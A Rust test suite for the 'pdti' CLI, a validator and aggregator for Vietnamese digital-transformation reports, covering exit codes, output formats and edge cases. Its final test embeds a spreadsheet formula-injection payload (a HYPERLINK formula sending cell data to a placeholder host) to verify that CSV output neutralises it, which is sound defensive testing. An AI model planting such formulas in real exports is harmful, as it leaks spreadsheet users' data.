//! The `pdti` binary as a terminal user runs it: output, exit statuses and
//! one-line error messages (DESIGN.md §3).

mod common;
use pdti_form::text::Lang;
use std::process::{Command, Output};

fn pdti(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_pdti")).args(args).output().expect("the pdti binary runs")
}

fn tmp(name: &str, content: &[u8]) -> String {
    let dir = std::env::temp_dir().join(format!("pdti-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let p = dir.join(name);
    std::fs::write(&p, content).unwrap();
    p.to_string_lossy().into_owned()
}

fn stdout(o: &Output) -> String {
    String::from_utf8(o.stdout.clone()).unwrap()
}
fn stderr(o: &Output) -> String {
    String::from_utf8(o.stderr.clone()).unwrap()
}

#[test]
fn validate_exits_0_for_a_return_without_errors_and_prints_vietnamese_by_section() {
    let complete = common::path("fixtures/complete-return.json");
    let o = pdti(&["validate", complete.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let text = stdout(&o);
    assert!(text.contains("Kết quả: 0 lỗi, 1 cảnh báo"), "{text}");
    assert!(text.contains("6. Hoạt động chính quyền số"), "{text}");
    assert!(text.contains("Chỉ tiêu (điểm tạm tính)"));
    let indicator = |code: &str| {
        let line = text.lines().find(|l| l.split_whitespace().next() == Some(code)).unwrap();
        line.split("  ").filter(|p| !p.is_empty()).last().unwrap().trim().to_string()
    };
    assert_eq!(indicator("6.1.1.c/a"), "94,86 % (830/875)");
    assert_eq!(indicator("6.1.1"), "100 % (875/875) · 22,22 / 22,22 điểm");
    assert_eq!(indicator("5.5"), "chưa tính được: mẫu số bằng 0 (0/0)");
}

#[test]
fn validate_exits_1_when_a_return_has_an_error() {
    let text = common::read("fixtures/complete-return.json").replace(
        "\"input\": \"12\",\n      \"value\": 12\n    },\n    \"6.2.e\"",
        "\"input\": \"14\",\n      \"value\": 14\n    },\n    \"6.2.e\"",
    );
    assert!(text.contains("\"14\""), "fixture shape changed");
    let f = tmp("error.json", text.as_bytes());
    let o = pdti(&["validate", &f]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stdout(&o).contains("R15b"));
}

#[test]
fn validate_json_prints_one_object_per_file() {
    let complete = common::path("fixtures/complete-return.json");
    let c = complete.to_str().unwrap();
    let o = pdti(&["validate", "--format", "json", c, c]);
    assert_eq!(o.status.code(), Some(0));
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    let arr = v.as_array().unwrap();
    assert_eq!(arr.len(), 2);
    for item in arr {
        let keys: Vec<&str> = item.as_object().unwrap().keys().map(String::as_str).collect();
        assert_eq!(keys, ["file", "findings", "indicators", "score", "summary"]);
        assert_eq!(item["summary"]["errors"], 0);
    }
}

#[test]
fn an_unreadable_input_exits_2_with_one_line_naming_the_file() {
    let cases: Vec<(String, &str)> = vec![
        ("/nonexistent/return.json".to_string(), "không tìm thấy tệp"),
        (tmp("bad.json", b"{ not json"), "không phải JSON"),
        (tmp("other.json", br#"{"format":"something-else"}"#), "không phải bản báo cáo PDTI"),
        (tmp("v9.json", br#"{"format":"pdti-return","formatVersion":9}"#), "phiên bản định dạng 9"),
        (tmp("form.json", br#"{"format":"pdti-return","formatVersion":1,"form":{"id":"pdti-2031"}}"#), "pdti-2031"),
        (tmp("bin.json", &[0xff, 0xfe, 0x00]), "UTF-8"),
    ];
    for (file, reason) in cases {
        let o = pdti(&["validate", &file]);
        assert_eq!(o.status.code(), Some(2), "{file}");
        let err = stderr(&o);
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(err.contains(&file) && err.contains(reason), "{err}");
    }
}

#[test]
fn a_bad_file_among_good_ones_still_validates_the_others_and_exits_2() {
    let complete = common::path("fixtures/complete-return.json");
    let o = pdti(&["validate", "--format", "json", "/nonexistent.json", complete.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(v.as_array().unwrap().len(), 1);
}

#[test]
fn validating_many_files_ends_with_one_line_on_how_the_batch_went() {
    let complete = common::path("fixtures/complete-return.json");
    let c = complete.to_str().unwrap();
    let o = pdti(&["validate", c, "/nonexistent.json", c]);
    assert_eq!(o.status.code(), Some(2));
    let text = stdout(&o);
    assert_eq!(text.lines().last(), Some("Tổng cộng 3 tệp: 2 không có lỗi, 0 có lỗi, 1 không đọc được."), "{text}");
    // One file: no batch line.
    assert!(!stdout(&pdti(&["validate", c])).contains("Tổng cộng"));
}

#[test]
fn import_legacy_prints_a_json_array_of_returns_and_exits_by_severity() {
    let sample = common::path("fixtures/laichau-stp-2023h1.tsv");
    let o = pdti(&["import-legacy", sample.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(v.as_array().unwrap().len(), 1);
    assert_eq!(v[0]["format"], "pdti-return");
    assert_eq!(v[0]["values"]["5.11.1.c"]["value"], "11362000");
    let f = tmp("nothing.tsv", b"hello\n");
    let o = pdti(&["import-legacy", &f]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("không tìm thấy dòng nào"));
}

#[test]
fn an_imported_return_validates_like_the_import_reported() {
    let sample = common::path("fixtures/laichau-stp-2023h1.tsv");
    let o = pdti(&["import-legacy", sample.to_str().unwrap()]);
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    let f = tmp("imported.json", serde_json::to_string(&v[0]).unwrap().as_bytes());
    let o = pdti(&["validate", "--format", "json", &f]);
    let r: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(r[0]["summary"], v[0]["summary"]);
    assert_eq!(r[0]["findings"], v[0]["findings"]);
}

#[test]
fn schema_prints_the_json_schema() {
    let o = pdti(&["schema"]);
    assert_eq!(o.status.code(), Some(0));
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(v["properties"]["format"]["const"], "pdti-return");
}

#[test]
fn usage_errors_exit_2_and_help_exits_0() {
    assert_eq!(pdti(&[]).status.code(), Some(2));
    assert_eq!(pdti(&["frobnicate"]).status.code(), Some(2));
    assert_eq!(pdti(&["validate"]).status.code(), Some(2));
    assert_eq!(pdti(&["validate", "--format", "xml", "x"]).status.code(), Some(2));
    let o = pdti(&["validate", "--bogus", "x"]);
    assert_eq!(
        (o.status.code(), stderr(&o).as_str()),
        (Some(2), "pdti: không có tuỳ chọn '--bogus' (unknown option)\n")
    );
    let o = pdti(&["schema", "x"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(o.stdout.is_empty());
    let o = pdti(&["validate", "--help"]);
    assert_eq!(o.status.code(), Some(0));
    assert!(stdout(&o).contains("'--' kết thúc các tuỳ chọn"));
    let o = pdti(&["--help"]);
    assert_eq!(o.status.code(), Some(0));
    assert!(stdout(&o).contains("pdti validate"));
}

#[test]
fn stdin_can_stand_for_a_file() {
    use std::io::Write;
    let mut child = Command::new(env!("CARGO_BIN_EXE_pdti"))
        .args(["import-legacy", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(common::read("fixtures/laichau-stp-2023h1.tsv").as_bytes()).unwrap();
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(1));
    assert!(stdout(&o).contains("\"pdti-return\""));
}

#[test]
fn validate_csv_puts_returns_side_by_side_for_a_spreadsheet() {
    let complete = common::path("fixtures/complete-return.json");
    let c = complete.to_str().unwrap();
    let o = pdti(&["validate", "--format", "csv", c, c]);
    assert_eq!(o.status.code(), Some(0));
    let text = stdout(&o);
    assert!(text.starts_with('\u{FEFF}'), "a BOM so spreadsheets read UTF-8");
    let rows: Vec<&str> = text.trim_start_matches('\u{FEFF}').split("\r\n").filter(|r| !r.is_empty()).collect();
    assert_eq!(rows.len(), 3);
    let header: Vec<&str> = rows[0].split(',').collect();
    assert_eq!(&header[..5], ["tệp", "cơ quan", "từ ngày", "đến ngày", "lỗi"]);
    let row: Vec<&str> = rows[1].split(',').collect();
    assert_eq!(row.len(), header.len());
    let col = |name: &str| row[header.iter().position(|h| *h == name).unwrap()];
    assert_eq!(col("cơ quan"), "Sở Tư pháp");
    assert_eq!(col("từ ngày"), "2023-01-01");
    assert_eq!(col("lỗi"), "0");
    assert_eq!(col("3.1.2 (%)"), "88.37");
    assert_eq!(col("4.1 (%)"), "do tỉnh tính", "the CSV speaks Vietnamese");
    let sample = common::path("fixtures/laichau-stp-2023h1.tsv");
    let o = pdti(&["import-legacy", "--format", "csv", sample.to_str().unwrap()]);
    let text = stdout(&o);
    assert!(text.contains("laichau-stp-2023h1.tsv#1,Sở Tư pháp,2023-01-01,2023-06-30,32,"), "{text}");
}

#[test]
fn aggregate_adds_up_returns_and_flags_an_agency_counted_twice() {
    let complete = common::path("fixtures/complete-return.json");
    let c = complete.to_str().unwrap();
    let o = pdti(&["aggregate", c, c]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let text = stdout(&o);
    assert!(text.starts_with("Tổng hợp 2 bản báo cáo · 01/01/2023–30/06/2023"), "{text}");
    assert!(text.contains("AGG-duplicate") && text.contains("Sở Tư pháp có 2 bản"), "{text}");
    let line = text.lines().find(|l| l.trim_start().starts_with("3.1.1 ")).unwrap();
    assert!(line.contains(" 86 ") && line.ends_with("2/2"), "{line}");
    assert!(text.contains("Chỉ tiêu của số liệu tổng hợp"));
}

#[test]
fn aggregate_reads_legacy_files_and_what_import_legacy_printed() {
    let sample = common::path("fixtures/laichau-stp-2023h1.tsv");
    let imported = pdti(&["import-legacy", sample.to_str().unwrap()]);
    let list = tmp("imported-list.json", &imported.stdout);
    let o = pdti(&["aggregate", "--format", "json", &list, sample.to_str().unwrap()]);
    // The sample has errors: the totals are reported, and the exit status says so.
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(v["format"], "pdti-aggregate");
    let files: Vec<&str> = v["returns"].as_array().unwrap().iter().map(|r| r["file"].as_str().unwrap()).collect();
    assert_eq!(files, [format!("{list}#1").as_str(), sample.to_str().unwrap()]);
    assert_eq!(v["findings"][0]["rule"], "AGG-errors");
    assert_eq!(v["totals"]["3.1.1"]["returns"], 2);
}

#[test]
fn aggregate_adds_up_nothing_when_a_file_cannot_be_read() {
    let complete = common::path("fixtures/complete-return.json");
    let bad = tmp("not-a-return.json", b"{\"format\": \"something-else\"}");
    let o = pdti(&["aggregate", complete.to_str().unwrap(), &bad, "missing.json"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(o.stdout.is_empty(), "no partial totals");
    let err = stderr(&o);
    assert!(err.contains(&format!("{bad}: ")) && err.contains("missing.json: không tìm thấy tệp"), "{err}");
    assert!(err.contains("chưa tổng hợp"), "{err}");
}

#[test]
fn aggregate_csv_has_one_row_per_field_then_one_per_indicator() {
    let complete = common::path("fixtures/complete-return.json");
    let o = pdti(&["aggregate", "--format=csv", complete.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0));
    let text = stdout(&o);
    let mut lines = text.split("\r\n");
    assert!(lines.next().unwrap().starts_with("\u{FEFF}mã,nội dung,đơn vị,tổng,số bản có số liệu"));
    let money = text.split("\r\n").find(|l| l.starts_with("5.11.1.c,")).unwrap();
    assert!(money.contains(",đồng,11362000,1,0,"), "{money}");
    let yes_no = text.split("\r\n").find(|l| l.starts_with("6.2.a,")).unwrap();
    assert!(yes_no.ends_with(",có/không,,1,0,1,0"), "{yes_no}");
    assert!(text.split("\r\n").any(|l| l.starts_with("6.4,") && l.contains(",%,")));
}

#[test]
fn an_indicator_is_rounded_half_away_from_zero_alike_on_the_page_in_the_json_the_text_and_the_csv() {
    // 1/32 = 3.125 %: half to even would give 3.12, half away from zero 3.13.
    let mut s = pdti_form::engine::Session::new(common::form());
    s.set_all([("agency.name", "Sở Tư pháp"), ("3.1.1", "32"), ("3.1.2.a", "1")]).unwrap();
    let i = s.form().indicators.iter().position(|x| x.code == "3.1.2").unwrap();
    assert_eq!(s.indicator_text(i, Lang::Vi).value, "3,13 % (1/32)");
    assert_eq!(s.indicator_text(i, Lang::En).value, "3.13 % (1/32)");
    let doc = pdti_form::document::to_json(&s, None, None);
    let v: serde_json::Value = serde_json::from_str(&doc).unwrap();
    assert_eq!(v["indicators"][i]["code"], "3.1.2");
    assert_eq!(v["indicators"][i]["percent"], "3.13");
    let f = tmp("one-in-32.json", doc.as_bytes());
    let text = stdout(&pdti(&["validate", &f]));
    let line = text.lines().find(|l| l.trim_start().starts_with("3.1.2 ")).unwrap();
    assert!(line.contains(" 3,13 % (1/32)"), "{line}");
    let csv = stdout(&pdti(&["validate", "--format", "csv", &f]));
    let rows: Vec<Vec<&str>> = csv.trim_start_matches('\u{FEFF}').lines().map(|l| l.split(',').collect()).collect();
    let col = rows[0].iter().position(|h| *h == "3.1.2 (%)").unwrap();
    assert_eq!(rows[1][col], "3.13");
}

#[test]
fn a_failed_write_exits_2_with_one_line_on_stderr() {
    let complete = common::path("fixtures/complete-return.json");
    let c = complete.to_str().unwrap();
    for args in [vec!["validate", c], vec!["validate", "--format", "json", c], vec!["schema"], vec!["--help"]] {
        let full = std::fs::File::create("/dev/full").expect("Linux has /dev/full");
        let o = Command::new(env!("CARGO_BIN_EXE_pdti")).args(&args).stdout(full).output().unwrap();
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        let err = stderr(&o);
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(err.starts_with("pdti: không ghi được kết quả (cannot write the output: "), "{err}");
    }
}

#[test]
fn a_reader_that_stops_early_ends_the_output_quietly() {
    use std::io::BufRead;
    // Enough output to fill the pipe many times over.
    let complete = common::path("fixtures/complete-return.json");
    let files = vec![complete.to_str().unwrap(); 300];
    let mut child = Command::new(env!("CARGO_BIN_EXE_pdti"))
        .arg("validate")
        .args(&files)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut first = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap()).read_line(&mut first).unwrap();
    assert_eq!(first.trim_end(), files[0]);
    // The reader is gone (as `| head -1` leaves): no panic, no message.
    let o = child.wait_with_output().unwrap();
    assert_eq!(stderr(&o), "");
    assert_eq!(o.status.code(), Some(pdti_form::cli::BROKEN_PIPE));
}

#[test]
fn a_file_name_that_is_not_utf8_is_read_and_shown_with_a_replacement_character() {
    use std::os::unix::ffi::OsStrExt;
    let dir = std::env::temp_dir().join(format!("pdti-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let name = std::ffi::OsStr::from_bytes(b"b\xe1o-c\xe1o.json");
    let file = dir.join(name);
    std::fs::copy(common::path("fixtures/complete-return.json"), &file).unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_pdti")).arg("validate").arg(&file).output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(stdout(&o).starts_with(&format!("{}\n", file.to_string_lossy())), "{}", stdout(&o));
    assert!(stdout(&o).contains("b\u{FFFD}o-c\u{FFFD}o.json"));
    // One that does not exist: exit 2, one line naming it.
    let missing = dir.join(std::ffi::OsStr::from_bytes(b"missing-\xff.json"));
    let o = Command::new(env!("CARGO_BIN_EXE_pdti")).arg("validate").arg(&missing).output().unwrap();
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("missing-\u{FFFD}.json: không tìm thấy tệp"), "{err}");
}

#[test]
fn a_double_dash_ends_the_options_so_a_file_may_start_with_a_dash() {
    let dir = std::env::temp_dir().join(format!("pdti-cli-dash-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::copy(common::path("fixtures/complete-return.json"), dir.join("-x.json")).unwrap();
    let run = |args: &[&str]| Command::new(env!("CARGO_BIN_EXE_pdti")).current_dir(&dir).args(args).output().unwrap();
    let o = run(&["validate", "--format", "json", "--", "-x.json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(v[0]["file"], "-x.json");
    // Without `--` it is an unknown option, and the message says what to do.
    let o = run(&["validate", "-x.json"]);
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("'-x'") && err.contains("'--'"), "{err}");
    // `-` still reads standard input, and `--format=csv` still works.
    let o = run(&["validate", "--format=csv", "--", "-x.json"]);
    assert_eq!(o.status.code(), Some(0));
    assert!(stdout(&o).contains("\r\n\"'-x.json\",Sở Tư pháp,"), "{}", stdout(&o));
}

#[test]
fn csv_text_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
    let agency = r#"=HYPERLINK("http://x"&A1,"Bấm")"#;
    let mut s = pdti_form::engine::Session::new(common::form());
    s.set_all([
        ("agency.name", agency),
        ("period.from", "-01/2023"),
        ("period.to", "30/06/2023"),
        ("3.1.1", "32"),
        ("3.1.2.a", "1"),
    ])
    .unwrap();
    let dir = std::env::temp_dir().join(format!("pdti-cli-csv-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("@SUM(1+1).json");
    std::fs::write(&file, pdti_form::document::to_json(&s, None, None)).unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_pdti")).args(["validate", "--format", "csv"]).arg(&file).output().unwrap();
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    let text = stdout(&o);
    // Read back by an independent CSV reader.
    let mut reader = csv::Reader::from_reader(text.strip_prefix('\u{FEFF}').unwrap().as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    let col = |name: &str| rows[0][header.iter().position(|h| h == name).unwrap()].to_string();
    assert_eq!(col("cơ quan"), format!("'{agency}"));
    assert_eq!(col("tệp"), file.to_str().unwrap(), "an absolute path starts with /: safe as it is");
    assert_eq!(col("từ ngày"), "'-01/2023", "an unreadable date is kept as typed, neutralised");
    assert_eq!(col("đến ngày"), "2023-06-30");
    // Numbers are untouched.
    assert_eq!(col("lỗi"), s.summary().errors.to_string());
    assert_eq!(col("3.1.2 (%)"), "3.13");
    assert_eq!(col("6.4 (%)"), "chưa tính được: thiếu mẫu số");
    // A file name that starts like a formula is neutralised too.
    let o = Command::new(env!("CARGO_BIN_EXE_pdti"))
        .current_dir(&dir)
        .args(["validate", "--format=csv", "@SUM(1+1).json"])
        .output()
        .unwrap();
    let text = stdout(&o);
    let mut reader = csv::Reader::from_reader(text.strip_prefix('\u{FEFF}').unwrap().as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!(&row[0], "'@SUM(1+1).json");
    assert_eq!(&row[1], format!("'{agency}"));
}
